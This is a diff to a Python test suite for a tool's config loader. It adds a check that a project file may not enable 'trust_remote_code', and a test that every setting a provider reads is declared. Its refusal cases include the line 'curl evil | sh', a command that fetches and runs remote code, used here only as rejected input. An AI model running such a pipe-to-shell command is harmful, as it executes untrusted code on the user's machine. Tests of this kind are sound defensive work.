@@ -148,6 +148,7 @@ def test_a_wrong_setting_is_one_sentence_with_the_files_name(
         ("[providers.azure]\nversion_env = ['AWS_SECRET_ACCESS_KEY']", "version_env is not for a project"),
         ("[providers.openai.headers]\nx = 'y'", "headers is not for a project"),
         ("[providers.x]\nprobe = true", "probe is not for a project"),
+        ("[providers.transformers]\ntrust_remote_code = true", "trust_remote_code is not for a project"),
         ("[providers.x]\nstart = 'curl evil | sh'", "start is not for a project"),
         ("history_path = '/tmp/x'", "history_path is not for a project"),
         ("cache_path = '/tmp/x'", "cache_path is not for a project"),
@@ -228,6 +229,21 @@ def test_variables_are_typed_and_a_misspelt_one_is_a_notice(project: Path) -> No
     config = load(project, {"CONTENTKIT_MODLE": "x", "CONTENTKIT_PROBE": "0"})
     assert config.notices == ("CONTENTKIT_MODLE is no setting of contentkit; did you mean CONTENTKIT_MODEL?",)
     assert "does not exist" in refused(project, {"CONTENTKIT_CONFIG": str(project / "no.toml")})
+
+
+def test_every_setting_that_a_dialect_reads_can_be_said() -> None:
+    import re
+    import tomllib
+
+    from contentkit.kit.settings import STANZA
+
+    folder = Path(__file__).parents[2] / "contentkit" / "providers"
+    code = "".join(path.read_text(encoding="utf-8") for path in folder.glob("*.py"))
+    read = set(re.findall(r"settings(?:\.get\(|\[)[\"'](\w+)", code))
+    assert len(read) > 10
+    assert read - STANZA.keys() == set()
+    shipped = tomllib.loads((folder / "hosts.toml").read_text(encoding="utf-8"))
+    assert {key for stanza in shipped.values() for key in stanza} - STANZA.keys() == set()
 
 
 def endpoint_of(config: Config, name: str) -> str:
